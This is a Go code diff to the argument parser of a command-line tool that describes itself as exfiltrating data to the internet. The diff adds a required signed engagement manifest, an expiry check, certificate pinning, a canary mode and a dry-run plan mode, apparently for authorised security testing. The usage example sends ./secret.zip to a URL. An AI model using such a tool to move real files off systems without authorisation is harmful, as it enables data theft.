@@ -5,6 +5,9 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"strings"
+
+	"protocol"
 )
 
 // Args holds the command line arguments
@@ -12,7 +15,18 @@ type Args struct {
 	FilePath      string
 	EncryptionKey string
 	BaseURL       string
+	ManifestPath  string
+	ManifestKey   string
+	Expires       string
+	StatusURL     string
+	Pin           string
+	CanarySize    int64
+	Plan          bool
+	PlanJSON      string
 	Verbose       bool
+
+	// Manifest is the verified engagement manifest
+	Manifest *protocol.Manifest
 }
 
 // ParseArgs parses command line arguments and returns an Args struct
@@ -30,6 +44,21 @@ func ParseArgs() (Args, error) {
 	flag.StringVar(&args.EncryptionKey, "k", "", "Encryption key")
 	flag.StringVar(&args.EncryptionKey, "key", "", "Encryption key")
 
+	flag.StringVar(&args.ManifestPath, "m", "", "Signed engagement manifest")
+	flag.StringVar(&args.ManifestPath, "manifest", "", "Signed engagement manifest")
+
+	flag.StringVar(&args.ManifestKey, "manifest-key", ManifestPublicKey, "Hex public key the manifest is signed with")
+
+	flag.StringVar(&args.Expires, "expires", "", "Refuse to run after this RFC 3339 time")
+	flag.StringVar(&args.StatusURL, "status-url", "", "Receiver URL to check the engagement status at (default: the base URL)")
+
+	flag.StringVar(&args.Pin, "pin", "", "Only talk to a receiver whose certificate has this SHA-256 fingerprint")
+
+	flag.Int64Var(&args.CanarySize, "canary", 0, "Send a generated canary of this many bytes instead of a file")
+
+	flag.BoolVar(&args.Plan, "plan", false, "Print the transfer plan and exit without sending anything")
+	flag.StringVar(&args.PlanJSON, "plan-json", "", "Write the transfer plan as JSON to this file and exit")
+
 	flag.BoolVar(&args.Verbose, "v", false, "Verbose mode")
 	flag.BoolVar(&args.Verbose, "verbose", false, "Verbose mode")
 
@@ -45,13 +74,24 @@ func ParseArgs() (Args, error) {
 		return args, fmt.Errorf("help requested")
 	}
 
+	// An expired client does nothing at all
+	if err := CheckExpiry(args.Expires); err != nil {
+		return args, err
+	}
+
 	// Validate arguments - all are required
 	if args.BaseURL == "" {
 		printUsage()
 		return args, fmt.Errorf("base URL is required. Use -u or --url to specify")
 	}
 
-	if args.FilePath == "" {
+	if args.CanarySize < 0 {
+		return args, fmt.Errorf("canary size must be positive")
+	}
+	if args.CanarySize > 0 && args.FilePath != "" {
+		return args, fmt.Errorf("use either --file or --canary, not both")
+	}
+	if args.FilePath == "" && args.CanarySize == 0 {
 		printUsage()
 		return args, fmt.Errorf("file path is required. Use -f or --file to specify")
 	}
@@ -61,9 +101,48 @@ func ParseArgs() (Args, error) {
 		return args, fmt.Errorf("encryption key is required. Use -k or --key to specify")
 	}
 
+	if args.ManifestPath == "" {
+		printUsage()
+		return args, fmt.Errorf("engagement manifest is required. Use -m or --manifest to specify")
+	}
+
 	// Check if the file exists
-	if _, err := os.Stat(args.FilePath); os.IsNotExist(err) {
-		return args, fmt.Errorf("file not found: %s", args.FilePath)
+	fileSize := args.CanarySize
+	if args.CanarySize == 0 {
+		info, err := os.Stat(args.FilePath)
+		if os.IsNotExist(err) {
+			return args, fmt.Errorf("file not found: %s", args.FilePath)
+		} else if err != nil {
+			return args, err
+		}
+		fileSize = info.Size()
+	}
+
+	// Refuse to run outside the signed engagement
+	manifest, err := LoadManifest(args.ManifestPath, args.ManifestKey)
+	if err != nil {
+		return args, fmt.Errorf("invalid engagement manifest: %v", err)
+	}
+	args.Manifest = manifest
+	if err := CheckEngagement(args.Manifest, args.BaseURL, fileSize, Now()); err != nil {
+		return args, err
+	}
+	if args.StatusURL == "" {
+		args.StatusURL = args.BaseURL
+	}
+
+	// A pinned certificate is only of use over TLS
+	if args.Pin != "" {
+		pin, err := protocol.ParseFingerprint(args.Pin)
+		if err != nil {
+			return args, err
+		}
+		args.Pin = pin
+		for _, u := range []string{args.BaseURL, args.StatusURL} {
+			if !strings.HasPrefix(u, "https://") {
+				return args, fmt.Errorf("--pin needs an https:// URL, got %s", u)
+			}
+		}
 	}
 
 	return args, nil
@@ -87,13 +166,21 @@ func printUsage() {
 	fmt.Println("Simple tools for exfiltrating data to the internet.")
 	fmt.Println()
 
-	fmt.Printf("Usage: %s -u/--url <baseURL> -f/--file <filePath> -k/--key <encryptionKey> [-v/--verbose]\n\n", executableName)
+	fmt.Printf("Usage: %s -u/--url <baseURL> -f/--file <filePath> -k/--key <encryptionKey> -m/--manifest <manifest> [-v/--verbose]\n\n", executableName)
 	fmt.Println("Options:")
 	fmt.Println("  -u, --url <baseURL>         Base URL for the transfer")
 	fmt.Println("  -f, --file <filePath>       Path to the file to encrypt and transfer")
 	fmt.Println("  -k, --key <encryptionKey>   Encryption key")
+	fmt.Println("  -m, --manifest <file>       Signed engagement manifest")
+	fmt.Println("      --manifest-key <hex>    Public key the manifest is signed with")
+	fmt.Println("      --expires <time>        Refuse to run after this RFC 3339 time")
+	fmt.Println("      --status-url <url>      Check the engagement status here instead of the base URL")
+	fmt.Println("      --pin <sha256>          Pin the receiver's TLS certificate fingerprint")
+	fmt.Println("      --canary <bytes>        Send a generated canary instead of a file")
+	fmt.Println("      --plan                  Print the transfer plan without sending anything")
+	fmt.Println("      --plan-json <file>      Write the transfer plan as JSON to a file")
 	fmt.Println("  -v, --verbose               Enable verbose output")
 	fmt.Println("  -h, --help                  Show this help message")
 	fmt.Println("\nExample:")
-	fmt.Printf("  %s --url http://example.com --file ./secret.zip --key mySecretKey123\n", executableName)
+	fmt.Printf("  %s --url http://example.com --file ./secret.zip --key mySecretKey123 --manifest ./engagement.json\n", executableName)
 }